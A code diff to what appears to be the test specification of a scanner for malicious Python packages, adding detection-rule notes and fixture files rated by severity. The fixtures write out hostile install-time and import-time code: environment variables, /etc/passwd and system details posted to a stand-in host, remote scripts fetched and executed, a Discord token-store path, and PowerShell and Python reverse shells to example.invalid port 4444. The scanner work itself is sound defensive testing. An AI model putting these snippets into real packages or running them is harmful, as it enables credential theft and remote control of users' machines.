@@ -151,9 +151,10 @@ SPECS: dict[str, Spec] = {
     "PV301": Spec(S.HIGH, note=(
         "fire: Chrome 'User Data\\Default\\Login Data' path plus requests.post (can send: high)."
         " quiet: selenium with its own --user-data-dir, and the word 'firefox'.")),
-    "PV302": Spec(S.HIGH, note=(
+    "PV302": Spec(S.HIGH, quiet_max=S.MEDIUM, note=(
         "fire: 'discord\\Local Storage\\leveldb'. quiet: a Discord bot posting to /channels "
-        "with its bot token, and the words 'Local Storage'.")),
+        "with its bot token and checking it at /users/@me (medium by design, so quiet means no "
+        "high), and the words 'Local Storage'.")),
     "PV303": Spec(S.MEDIUM, note=(
         "fire: Exodus 'exodus.wallet' path, no network (alone: medium). quiet: a wallet library"
         " with its own wallet.json and the words bitcoin/keystore.")),
@@ -216,6 +217,9 @@ SPECS: dict[str, Spec] = {
     "PV606": Spec(S.HIGH, note=(
         "fire: PIL Image.open + exec of bytes from the pixels at module level of the package "
         "__init__ (import time: high). quiet: PIL thumbnails.")),
+    "PV607": Spec(S.HIGH, note=(
+        "fire: a base64 'MZ' header (zero bytes after it) written to helper.exe at module level "
+        "of the package __init__. quiet: a base64 PNG icon written to disk and a hex vector.")),
     "PV701": Spec(S.HIGH, package_level=True, build_fire=_build_pv701_fire,
                   build_quiet=_build_pv701_quiet, note=(
         "fire (built sdist): an ELF named logo.png (disguised) and an extension-less ELF "
@@ -519,6 +523,119 @@ SEVERITY_PATHS = {
         "user = os.popen('whoami').read()\n"
         "urllib.request.urlopen('https://example.invalid/?u=' + user)\n")},
         "setup.py", 4, S.HIGH, "a recon command's output sent at install time"),
+    "pv102-powershell-tcpclient": SevPath("PV102", {"setup.py": (
+        "import os\n"
+        "\n"
+        "os.system('powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient(' +\n"
+        "          '\\'example.invalid\\', 4444)\"')\n")},
+        "setup.py", 3, S.HIGH, "a PowerShell TCP client (the reverse-shell one-liner)"),
+    "pv202-response-through-a-name": SevPath("PV202", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import requests\n"
+            "\n"
+            "code = requests.get('https://example.invalid/stage2.txt').text\n"
+            "exec(code)\n")},
+        "mypkg/__init__.py", 4, S.HIGH, "a response held in a variable, then executed"),
+    "pv203-script-written-as-text": SevPath("PV203", {"setup.py": (
+        "import subprocess\n"
+        "import urllib.request\n"
+        "\n"
+        "body = urllib.request.urlopen('https://example.invalid/s.txt').read().decode()\n"
+        "with open('/tmp/stage2.py', 'w') as fh:\n"
+        "    fh.write(body)\n"
+        "subprocess.Popen(['python3', '/tmp/stage2.py'])\n")},
+        "setup.py", 4, S.HIGH, "a fetched script written in text mode and started at install"),
+    "pv203-named-temporary-file": SevPath("PV203", {"setup.py": (
+        "import subprocess\n"
+        "import tempfile\n"
+        "import requests\n"
+        "\n"
+        "data = requests.get('https://example.invalid/a.bin').content\n"
+        "tmp = tempfile.NamedTemporaryFile(delete=False, suffix='.exe')\n"
+        "tmp.write(data)\n"
+        "subprocess.Popen([tmp.name])\n")},
+        "setup.py", 5, S.HIGH, "a download written through a named temporary file"),
+    "pv203-git-clone-and-run": SevPath("PV203", {"setup.py": (
+        "import subprocess\n"
+        "import git\n"
+        "\n"
+        "git.Repo.clone_from('https://example.invalid/x.git', '/tmp/x')\n"
+        "subprocess.call(['python3', '/tmp/x/run.py'])\n")},
+        "setup.py", 4, S.HIGH, "a repository cloned and its script run at install"),
+    "pv305-sent-with-curl": SevPath("PV305", {"setup.py": (
+        "import json\n"
+        "import os\n"
+        "import subprocess\n"
+        "\n"
+        "env = json.dumps(dict(os.environ))\n"
+        "subprocess.run(['curl', '-d', env, 'https://example.invalid/'])\n")},
+        "setup.py", 5, S.HIGH, "curl as the way out, not an HTTP library"),
+    "pv404-shell-written-from-a-constant": SevPath("PV404", {"setup.py": (
+        "import subprocess\n"
+        "\n"
+        "CODE = '''import os, pty, socket\n"
+        "s = socket.socket()\n"
+        "s.connect(('example.invalid', 4444))\n"
+        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
+        "pty.spawn('/bin/sh')\n"
+        "'''\n"
+        "with open('/tmp/x.py', 'w') as fh:\n"
+        "    fh.write(CODE)\n"
+        "subprocess.Popen(['python3', '/tmp/x.py'])\n")},
+        "setup.py", 10, S.CRITICAL, "a script held in a module constant, written and started"),
+    "pv302-token-check-alone": SevPath("PV302", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import requests\n"
+            "\n"
+            "ME = requests.get('https://discord.com/api/v9/users/@me',\n"
+            "                  headers={'Authorization': 'token-from-the-user'})\n")},
+        "mypkg/__init__.py", 3, S.MEDIUM, "Discord's token check with no token theft: medium"),
+    "pv302-token-check-beside-leveldb": SevPath("PV302", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import os\n"
+            "import requests\n"
+            "\n"
+            "P = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
+            "requests.get('https://discord.com/api/v9/users/@me')\n")},
+        "mypkg/__init__.py", 4, S.HIGH, "the token check beside Discord's token store: high"),
+    "pv305-environ-iterated": SevPath("PV305", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import os\n"
+            "from urllib import request\n"
+            "\n"
+            "env = ''\n"
+            "for k in os.environ:\n"
+            "    env += k + '=' + os.getenv(k)\n"
+            "request.urlopen('https://example.invalid/', data=env.encode())\n")},
+        "mypkg/__init__.py", 5, S.HIGH, "every variable read in a loop and sent on import"),
+    "pv305-environ-copy-dumped": SevPath("PV305", {"setup.py": (
+        "import json\n"
+        "import os\n"
+        "import urllib.request\n"
+        "\n"
+        "body = json.dumps(os.environ.copy()).encode()\n"
+        "urllib.request.urlopen('https://example.invalid/', data=body)\n")},
+        "setup.py", 5, S.HIGH, "a copy of the whole environment serialised at install time"),
+    "pv306-fingerprint-by-reference": SevPath("PV306", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import os\n"
+            "from urllib import request\n"
+            "\n"
+            "\n"
+            "def safe(fn):\n"
+            "    return fn()\n"
+            "\n"
+            "\n"
+            "host = safe(os.uname)\n"
+            "request.urlopen('https://example.invalid/?h=' + str(host))\n")},
+        "mypkg/__init__.py", 9, S.HIGH, "os.uname handed to a helper, not called by name"),
+    "pv306-etc-passwd-sent": SevPath("PV306", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import urllib.request\n"
+            "\n"
+            "users = open('/etc/passwd').read()\n"
+            "urllib.request.urlopen('https://example.invalid/', data=users.encode())\n")},
+        "mypkg/__init__.py", 3, S.HIGH, "the account list read and sent on import"),
     "pv401-run-time": SevPath("PV401", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/notify.py": (
             f"WEBHOOK = {_WEBHOOK!r}\n")},
